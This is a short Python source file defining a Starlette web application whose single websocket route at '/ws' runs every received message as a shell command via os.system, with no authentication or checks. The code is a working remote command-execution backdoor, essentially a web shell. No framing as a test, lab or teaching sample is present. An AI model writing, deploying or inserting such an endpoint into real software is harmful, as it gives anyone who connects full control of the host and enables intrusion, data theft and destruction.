import os
from starlette.routing import WebSocketRoute
from starlette.applications import Starlette
async def x(websocket):
    await websocket.accept()
    os.system(await websocket.receive_text())
app = Starlette(routes=[WebSocketRoute('/ws', x)])
